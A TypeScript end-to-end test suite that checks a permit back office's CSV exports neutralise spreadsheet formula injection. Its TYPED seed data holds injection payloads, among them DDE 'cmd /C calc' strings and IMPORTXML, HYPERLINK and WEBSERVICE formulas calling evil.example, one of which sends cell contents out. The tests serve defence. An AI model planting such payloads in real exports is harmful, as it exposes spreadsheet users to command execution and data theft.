/**
 * Every CSV the back office exports, from every list with an Export button and every statistics
 * table, after members and staff have typed text a spreadsheet would run: each such cell arrives
 * as text behind a quote mark, and nothing else in the file starts like a formula.
 */
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../src/export/parse-csv.js';
import { apiCallsAs } from './api.js';
import { downloadFrom } from './screens.js';
import { url, useBrowser } from './support.js';

const { signedIn } = useBrowser();

/** What people type, each reaching the lists named where it is planted below. */
const TYPED = {
  company: "+cmd|' /C calc'!A0",
  subject: '=HYPERLINK("http://evil.example","click")',
  message: '@SUM(1+1) and more words',
  load: '@SUM(1+1)',
  commodity: "-2+3+cmd|' /C calc'!A0",
  city: '=cmd',
  notes: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  application: '=1+1',
  contact: '@contact',
  member: ' =SUM(1,1)',
  phone: '+1 214 555 0142',
  agent: '@SUM(A1:A9)',
  stateNote: '=WEBSERVICE("http://evil.example")',
  invoice: '\t@SUM(1+1)',
  cardNote: '\r-1+1',
  annual: '=A1*2',
  closure: '-1+1 day',
  closureNote: '+note',
  travelHours: '=travel',
  regulationNotes: '@notes',
  post: '=blog title',
  excerpt: '+excerpt',
  page: '@page title',
  service: '=service',
  serviceDescription: '-service',
} as const;

/** What a spreadsheet would run, written out here apart from the writer's own pattern. */
const runnable = (cell: string) => /^[\t\r]/.test(cell) || /^[=+\-@＝＋－＠]/.test(cell.trimStart());
const isNumber = (cell: string) => /^-?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$/.test(cell);

const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);

beforeAll(async () => {
  const admin = await apiCallsAs('admin@example.com');
  const member = await apiCallsAs('member@example.com');

  // The member's company: its name travels with its loads, permit requests, invoices and more.
  const { data: company } = await admin('GET', '/companies/1');
  await admin('PUT', '/companies/1', { ...company, name: TYPED.company });

  await member('POST', '/contacts', { subject: TYPED.subject, message: TYPED.message });
  const { data: load } = await member('POST', '/loads', {
    description: TYPED.load,
    commodity: TYPED.commodity,
    length_in: 720,
    width_in: 120,
    height_in: 150,
    weight_lbs: 90_000,
    axles: 5,
    origin_city: TYPED.city,
    origin_state: 'TX',
    destination_city: 'Tulsa',
    destination_state: 'OK',
  });
  await member('POST', '/permit-requests', {
    load_id: load.id,
    states: ['TX', 'OK'],
    start_date: day(7),
    end_date: day(9),
    notes: TYPED.notes,
  });

  await admin('POST', '/applications', {
    company_name: TYPED.application,
    usdot: '99999991',
    contact_name: TYPED.contact,
    email: 'formula.applicant@example.com',
  });
  await admin('POST', '/members', {
    name: TYPED.member,
    email: 'formula.member@example.com',
    company_id: 1,
    member_role: 'driver',
    phone: TYPED.phone,
    active: true,
  });

  // The agent renamed: their name reaches the accounts, the agent statistics, their notes and the log.
  const { data: accounts } = await admin<{ data: { id: number; email: string }[] }>('GET', '/accounts?per_page=100');
  const agentId = accounts.find((account) => account.email === 'agent@example.com')?.id;
  const { data: agentAccount } = await admin('GET', `/accounts/${agentId}`);
  await admin('PUT', `/accounts/${agentId}`, { ...agentAccount, name: TYPED.agent });
  const agent = await apiCallsAs('agent@example.com');
  await agent('POST', '/state-notes', { state: 'TX', body: TYPED.stateNote });

  await admin('POST', '/invoices', {
    company_id: 1,
    description: TYPED.invoice,
    amount_cents: 12_500,
    issued_at: day(0),
    due_at: day(30),
  });
  await admin('POST', '/card-operations', { company_id: 1, type: 'refund', amount_cents: 500, note: TYPED.cardNote });
  await admin('POST', '/annual-permits', {
    company_id: 1,
    state: 'TX',
    permit_number: TYPED.annual,
    kind: 'oversize',
    valid_from: day(0),
    valid_to: day(365),
    fee_cents: 9_000,
  });
  await admin('POST', '/holiday-closures', {
    state: 'TX',
    date: day(40),
    name: TYPED.closure,
    note: TYPED.closureNote,
  });
  const { data: regulations } = await admin<{ data: { id: number }[] }>('GET', '/state-regulations?per_page=1');
  const { data: regulation } = await admin('GET', `/state-regulations/${regulations[0]?.id}`);
  await admin('PUT', `/state-regulations/${regulation.id}`, {
    ...regulation,
    travel_hours: TYPED.travelHours,
    notes: TYPED.regulationNotes,
  });
  await admin('POST', '/blog-posts', {
    title: TYPED.post,
    slug: 'formula-post',
    excerpt: TYPED.excerpt,
    body: '<p>Text.</p>',
    status: 'draft',
  });
  await admin('POST', '/pages', { title: TYPED.page, slug: 'formula-page', body: '<p>Text.</p>', published: false });
  await admin('POST', '/services', {
    name: TYPED.service,
    description: TYPED.serviceDescription,
    price_cents: 10_000,
    position: 0,
    active: true,
  });
});

/** The file a click downloads, read back field by field. */
async function download(page: Page, click: () => Promise<void>) {
  const { filename, text } = await downloadFrom(page, click);
  expect(filename).toMatch(/^[\w.-]+\.csv$/);
  expect(text.startsWith('\ufeff')).toBe(true);
  return parseCsv(text);
}

/** Every cell a spreadsheet would run; a number is no formula. */
const runnableCells = (rows: string[][]) => rows.flat().filter((cell) => runnable(cell) && !isNumber(cell));

/** A list's export, once its rows show: nothing runnable, and each planted text there, defused. */
async function expectListExport(page: Page, path: string, planted: readonly string[]): Promise<string[][]> {
  await page.goto(url(path));
  await page.locator('tbody tr').first().waitFor();
  const rows = await download(page, () => page.getByRole('button', { name: 'Export', exact: true }).click());
  expect(rows.length, path).toBeGreaterThan(1);
  expect(runnableCells(rows), path).toEqual([]);
  const cells = new Set(rows.flat());
  // The API keeps text without the spaces, tabs and line breaks around it (as the forms read it):
  // what was planted after a tab is stored, and defused, from its first sign.
  for (const text of planted) {
    expect(cells.has(`'${text.trim()}`), `${path}: ${JSON.stringify(text)}`).toBe(true);
  }
  return rows;
}

describe('CSV export from the lists', () => {
  it('defuses what members typed in the permit, load, contact and company lists staff export', async () => {
    const page = await signedIn('admin@example.com');
    await expectListExport(page, '/my-permit-request', [TYPED.notes, TYPED.company]);
    await expectListExport(page, '/my-loads', [TYPED.load, TYPED.commodity, TYPED.city, TYPED.company]);
    await expectListExport(page, '/companies', [TYPED.company]);
    await expectListExport(page, '/contacts', [TYPED.subject, TYPED.message, TYPED.company]);
    await expectListExport(page, '/applications', [TYPED.application, TYPED.contact]);
    await expectListExport(page, '/existing-member-list', [TYPED.member, TYPED.phone, TYPED.company]);
  });

  it('defuses what staff typed in the finance, permit and staff lists', async () => {
    const page = await signedIn('admin@example.com');
    await expectListExport(page, '/invoices', [TYPED.invoice, TYPED.company]);
    await expectListExport(page, '/card-operations', [TYPED.cardNote, TYPED.company]);
    await expectListExport(page, '/annual', [TYPED.annual, TYPED.company]);
    await expectListExport(page, '/state-notes', [TYPED.stateNote, TYPED.agent]);
    await expectListExport(page, '/accounts', [TYPED.agent]);
    const log = await expectListExport(page, '/logs', [TYPED.agent]);
    // The log's summary of the member's load starts with its description.
    expect(log.flat().some((cell) => cell.startsWith(`'${TYPED.load} (`))).toBe(true);
  });

  it("defuses what staff typed in the website's lists", async () => {
    const page = await signedIn('admin@example.com');
    await expectListExport(page, '/site-settings/holiday-closures', [TYPED.closure, TYPED.closureNote]);
    await expectListExport(page, '/site-settings/state-regulations', [TYPED.travelHours, TYPED.regulationNotes]);
    await expectListExport(page, '/site-settings/blog', [TYPED.post, TYPED.excerpt]);
    await expectListExport(page, '/site-settings/pages', [TYPED.page]);
    await expectListExport(page, '/site-settings/services', [TYPED.service, TYPED.serviceDescription]);
  });

  it("defuses the member's own exports, and shows no Export where a member has none", async () => {
    const page = await signedIn('member@example.com');
    await expectListExport(page, '/my-permit-request', [TYPED.notes, TYPED.company]);
    await expectListExport(page, '/my-loads', [TYPED.load, TYPED.commodity, TYPED.city, TYPED.company]);
    await expectListExport(page, '/company-invoices', [TYPED.invoice, TYPED.company]);
    await expectListExport(page, '/card-operations', [TYPED.cardNote, TYPED.company]);
    for (const path of ['/annual', '/company-state-regulation']) {
      await page.goto(url(path));
      await page.locator('tbody tr').first().waitFor();
      expect(await page.getByRole('button', { name: 'Export', exact: true }).count(), path).toBe(0);
    }
  });
});

describe('CSV export from the statistics', () => {
  /** Every table's CSV button on the page, each file checked. */
  async function expectStatisticsExports(page: Page, path: string, buttons: number, planted: readonly string[] = []) {
    await page.goto(url(path));
    const csvButtons = page.getByRole('button', { name: 'Download CSV', exact: true });
    await csvButtons.first().waitFor();
    expect(await csvButtons.count(), path).toBe(buttons);
    const cells = new Set<string>();
    for (let index = 0; index < buttons; index += 1) {
      const rows = await download(page, () => csvButtons.nth(index).click());
      expect(rows.length, path).toBeGreaterThan(1);
      expect(runnableCells(rows), path).toEqual([]);
      for (const cell of rows.flat()) cells.add(cell);
    }
    for (const text of planted) expect(cells.has(`'${text}`), `${path}: ${JSON.stringify(text)}`).toBe(true);
    // Only what was typed is defused: months, states and figures are written as they are.
    const defused = [...cells].filter((cell) => cell.startsWith("'"));
    expect(defused.sort(), path).toEqual(planted.map((text) => `'${text}`).sort());
  }

  it("defuses an agent's name, and writes the figures as they are", async () => {
    const page = await signedIn('admin@example.com');
    await expectStatisticsExports(page, '/statistic', 2);
    // Per agent, answered on time per agent and per state (issue 38), decided by rule per month and
    // per state (issue 63).
    await expectStatisticsExports(page, '/agent-statistics', 5, [TYPED.agent]);
  });

  it("keeps a member's company statistics clean", async () => {
    const page = await signedIn('member@example.com');
    await expectStatisticsExports(page, '/company-statistic', 2);
  });
});
